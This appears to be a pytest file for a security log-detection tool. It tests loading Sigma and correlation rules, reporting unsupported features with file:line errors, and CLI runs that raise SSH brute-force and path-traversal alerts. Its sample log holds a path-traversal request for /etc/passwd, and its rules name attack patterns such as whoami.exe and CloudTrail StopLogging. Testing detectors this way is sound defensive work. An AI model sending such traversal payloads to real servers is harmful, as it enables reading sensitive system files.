    rule.reset()
    assert run(rule, [parse(registry, accepted(ip, 0)), parse(registry, accepted(ip, 10))]) == []


def test_correlation_state_survives_a_restart(tmp_path: Path, registry: ParserRegistry):
    """The engine snapshots rule state at commit points; a new process continues the count."""
    from access_audit.detect.engine import DetectionEngine

    write(tmp_path, "ssh_brute_force.yml", SSH_BRUTE_FORCE)
    before = DetectionEngine(load_rules([tmp_path], include_default=False).rules)
    for i in range(6):
        assert before.process(parse(registry, failed("198.51.100.23", i))) == []
    rows: dict[str, list[tuple[str, bytes]]] = {}
    ups, dels, drops = before.checkpoint_rows()
    assert not dels and not drops
    for ns, key, value in ups:
        rows.setdefault(ns, []).append((key, value))
    assert all(b"\x80" not in v for _, v in rows[next(iter(rows))])  # plain JSON, no pickle
    after = DetectionEngine(load_rules([tmp_path], include_default=False).rules)
    assert after.restore_rows(lambda ns: iter(rows.get(ns, []))) == 1
    found = [d for i in range(6, 10) for d in after.process(parse(registry, failed("198.51.100.23", i)))]
    assert [d.count for d in found] == [10]
    assert after.process(parse(registry, trail("StopLogging"))) == []  # other log types are not offered


def test_generate_keeps_the_base_rules(tmp_path: Path):
    text = SSH_BRUTE_FORCE.replace("    correlation:\n", "    correlation:\n        generate: true\n")
    write(tmp_path, "gen.yml", text)
    ids = sorted(r.id for r in load_rules([tmp_path], include_default=False).rules)
    assert ids == ["sigma_ssh_brute_force_from_one_address", "sigma_ssh_failed_password"]


def test_correlation_may_reference_a_rule_in_another_file(tmp_path: Path, registry: ParserRegistry):
    base, corr = SSH_BRUTE_FORCE.split("    ---\n")
    write(tmp_path, "a_correlation.yml", corr)  # loaded first: the reference is resolved at the end
    write(tmp_path, "z_ssh_failed_password.yml", base)
    rs = load_rules([tmp_path], include_default=False)
    assert rs.errors == []
    by_id = rs.by_id()
    assert set(by_id) == {"a_correlation", "z_ssh_failed_password"}
    rule = by_id["a_correlation"]
    assert len(run(rule, [parse(registry, failed("198.51.100.1", i)) for i in range(10)])) == 1


# --- unsupported things are reported, with file:line and the reason ---------------------------

BROKEN = """
    title: Still Fine
    logsource: {product: aws, service: cloudtrail}
    detection:
        sel: {eventName: StopLogging}
        condition: sel
    ---
    title: Windows Process
    logsource:
        category: process_creation
        product: windows
    detection:
        sel: {Image|endswith: '\\\\whoami.exe'}
        condition: sel
    ---
    title: Unknown Modifier
    logsource: {product: aws, service: cloudtrail}
    detection:
        sel:
            eventName|sounds_like: StopLogging
        condition: sel
    ---
    title: Placeholder
    logsource: {product: aws, service: cloudtrail}
    detection:
        sel:
            eventName: StopLogging
            sourceIPAddress|expand: '%admin_networks%'
        condition: sel
    ---
    title: Unknown Web Field
    logsource: {category: webserver}
    detection:
        sel:
            cs-method: GET
            c-uri-extension: php
        condition: sel
    ---
    title: Old Aggregation
    logsource: {product: aws, service: cloudtrail}
    detection:
        sel: {eventName: ConsoleLogin}
        condition: sel | count() by sourceIPAddress > 5
    ---
    title: Few Logins
    correlation:
        type: event_count
        rules: [still_fine]
        timespan: 1h
        condition: {lte: 2}
    ---
    title: Sum Of Bytes
    correlation:
        type: value_sum
        rules: [still_fine]
        timespan: 1h
        condition: {gte: 1000000, field: bytes}
    ---
    title: Dangling Reference
    correlation:
        type: event_count
        rules: [no_such_rule]
        timespan: 1h
        condition: {gte: 2}
    ---
    title: Over A Broken Rule
    correlation:
        type: temporal
        rules: [windows_process, still_fine]
        group-by: [sourceIPAddress]
        timespan: 1h
"""


def test_unsupported_features_are_reported_not_skipped(tmp_path: Path):
    # name the rules so the correlations can reference them
    text = textwrap.dedent(BROKEN).lstrip()
    text = text.replace("title: Still Fine\n", "title: Still Fine\nname: still_fine\n")
    text = text.replace("title: Windows Process\n", "title: Windows Process\nname: windows_process\n")
    f = tmp_path / "mixed.yml"
    f.write_text(text)
    lines = text.splitlines()

    def line_of(snippet: str, after: str = "") -> int:
        start = lines.index(after) if after else 0
        return next(i for i, x in enumerate(lines) if i >= start and snippet in x) + 1

    rs = load_rules([tmp_path], include_default=False)
    assert [r.id for r in rs.rules] == ["sigma_still_fine"]  # the good rule of the file still loads
    by_rule: dict[str | None, list[RuleError]] = {}
    for e in rs.errors:
        by_rule.setdefault(e.rule_id, []).append(e)

    def expect(rid: str, needle: str, line: int) -> None:
        errs = by_rule.get(rid, [])
        assert any(needle in e.message and e.source == f"{f}:{line}" for e in errs), (rid, needle, line, errs)

    expect("sigma_windows_process", "unsupported logsource (category=process_creation product=windows)",
           line_of("logsource:", "title: Windows Process"))
    expect("sigma_unknown_modifier", "Unknown modifier 'sounds_like'", line_of("eventName|sounds_like"))
    expect("sigma_placeholder", "placeholders (%name%) need a processing pipeline",
           line_of("sourceIPAddress|expand"))
    expect("sigma_unknown_web_field", "field 'c-uri-extension' is not available", line_of("c-uri-extension"))
    expect("sigma_old_aggregation", "pipe syntax", line_of("condition: sel | count()"))
    expect("sigma_few_logins", "unsupported correlation condition 'lte'",
           line_of("condition: {lte: 2}"))
    expect("sigma_sum_of_bytes", "unsupported correlation type 'value_sum'", line_of("type: value_sum"))
    expect("sigma_dangling_reference", "'no_such_rule' was not found", line_of("rules: [no_such_rule]"))
    expect("sigma_over_a_broken_rule", "'windows_process' could not be loaded",
           line_of("rules: [windows_process, still_fine]"))
    assert len(rs.errors) == 9, "\n".join(map(str, rs.errors))
    assert all(str(e).startswith(f"{f}:") for e in rs.errors)


def test_extended_condition_and_unresolved_reference_without_a_load(tmp_path: Path):
    f = write(tmp_path, "ext.yml", """
        title: A
        name: rule_a
        logsource: {product: linux, service: sshd}
        detection: {k: [x], condition: k}
        ---
        title: B
        name: rule_b
        logsource: {product: linux, service: sshd}
        detection: {k: [y], condition: k}
        ---
        title: A Without B
        correlation:
            type: temporal
            rules: [rule_a, rule_b]
            group-by: [client_ip]
            timespan: 5m
            condition: rule_a and not rule_b
        ---
        title: Elsewhere
        correlation:
            type: event_count
            rules: [defined_elsewhere]
            timespan: 5m
            condition: {gte: 3}
    """)
    errors: list[RuleError] = []
    rules = load_sigma_file(f, errors)  # alone: no other files to look in
    assert {r.id for r in rules} == {"sigma_a", "sigma_b"}  # the failed correlations silence nothing
    msgs = sorted(e.message for e in errors)
    assert any("extended (boolean) correlation condition" in m for m in msgs)
    assert any("'defined_elsewhere' was not found" in m for m in msgs)


def test_ids_are_unique_and_sigma_needs_no_inline_tests(tmp_path: Path):
    write(tmp_path, "multi.yml", """
        title: Root Login
        logsource: {product: linux, service: sshd}
        detection: {k: ['Accepted password for root'], condition: k}
        ---
        title: Root Login
        logsource: {product: linux, service: sshd}
        detection: {k: ['Accepted publickey for root'], condition: k}
        ---
        title: "Über-Admin: root login?"
        logsource: {product: linux, service: sshd}
        detection: {k: ['session opened for user root'], condition: k}
    """)
    # one of our own YAML rules beside them: told apart by content
    (tmp_path / "ours.yml").write_text(textwrap.dedent("""
        id: ours
        title: Our own rule
        log_types: [syslog]
        match: {event.action: ssh_login}
        tests:
          - name: positive
            expect: true
            events:
              - raw: 'Dec 10 09:32:20 h sshd[1]: Accepted password for a from 1.2.3.4 port 1 ssh2'
          - name: negative
            expect: false
            events:
              - raw: 'Dec 10 09:32:20 h su[1]: pam_unix(su:session): session opened for user root by a(uid=0)'
    """))
    rs = load_rules([tmp_path], include_default=False)
    assert rs.errors == []
    assert sorted(r.id for r in rs.rules) == ["ours", "sigma_ber_admin_root_login", "sigma_root_login",
                                              "sigma_root_login_2"]


def test_lint_of_our_rules_is_unchanged_by_sigma_files(tmp_path: Path):
    write(tmp_path, "aws_cloudtrail_disable_logging.yml", CLOUDTRAIL_CHANGE)
    (tmp_path / "bad_one.yml").write_text("id: bad_one\ntitle: x\nmatch: {user.nam: alice}\n")
    rs = load_rules([tmp_path], include_default=False)
    assert [r.id for r in rs.rules] == ["aws_cloudtrail_disable_logging"]
    msgs = [str(e) for e in rs.errors]
    assert any("bad_one.yml:3:" in m and "unknown field 'user.nam'" in m for m in msgs)
    assert any("bad_one.yml:" in m and "inline 'tests'" in m for m in msgs)
    assert not any("aws_cloudtrail_disable_logging" in m for m in msgs)


# --- the CLI ----------------------------------------------------------------------------------

def cli(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "access_audit.cli", *args], capture_output=True, timeout=300)


def test_cli_lists_and_runs_sigma_rules(tmp_path: Path):
    rules = tmp_path / "sigma"
    rules.mkdir()
    write(rules, "ssh_brute_force_sigma.yml", SSH_BRUTE_FORCE)
    write(rules, "lnx_sshd_susp_ssh.yml", SSHD_ERRORS)
    write(rules, "web_path_traversal_exploitation_attempt.yml", PATH_TRAVERSAL)

    r = cli("detectors", "list", "--rules", str(rules), "--format", "json")
    assert r.returncode == 0, r.stderr.decode()
    listed = {row["id"]: row for row in map(json.loads, r.stdout.splitlines())}
    assert listed["lnx_sshd_susp_ssh"]["kind"] == "sigma" and listed["lnx_sshd_susp_ssh"]["log_types"] == ["syslog"]
    assert listed["sigma_ssh_brute_force_from_one_address"]["kind"] == "sigma_correlation"
    assert listed["sigma_ssh_brute_force_from_one_address"]["mitre"] == ["T1110.001"]
    assert listed["web_path_traversal_exploitation_attempt"]["log_types"] == ["http"]
    assert "ssh_brute_force" in listed  # the default pack is still there

    log = tmp_path / "mixed.log"
    log.write_text("\n".join([*(failed("198.51.100.23", i * 3, user=f"u{i}") for i in range(12)),
                              "Nov 20 10:05:00 web1 sshd[999]: error: Corrupted MAC on input.",
                              ncsa("/download?file=../../../etc/passwd")]) + "\n")
    dd = tmp_path / "dd"
    r = cli("run", "--rules", str(rules), "--input", str(log), "--data-dir", str(dd), "--year", "2026", "--quiet")
    assert r.returncode == 0, r.stderr.decode()
    assert json.loads(r.stdout)["events"] == 14
    alerts = [json.loads(x) for x in (dd / "alerts.jsonl").read_text().splitlines()]
    by_rule = {a["rule_id"]: a for a in alerts}
    assert {"sigma_ssh_brute_force_from_one_address", "lnx_sshd_susp_ssh",
            "web_path_traversal_exploitation_attempt"} <= set(by_rule)
    brute = by_rule["sigma_ssh_brute_force_from_one_address"]
    assert brute["severity"] == "high" and brute["group"] == {"source.ip": "198.51.100.23"}
    assert brute["count"] == 10 and brute["mitre"] == ["T1110.001"]

    # a rule we cannot run stops `run` (strict), with file:line and the reason
    write(rules, "win.yml", """
        title: Windows Process
        logsource: {category: process_creation, product: windows}
        detection: {sel: {Image|endswith: '\\\\whoami.exe'}, condition: sel}
    """)
    r = cli("run", "--rules", str(rules), "--input", str(log), "--data-dir", str(tmp_path / "dd2"))
    assert r.returncode == 2 and b"unsupported logsource" in r.stderr and b"win.yml:2" in r.stderr
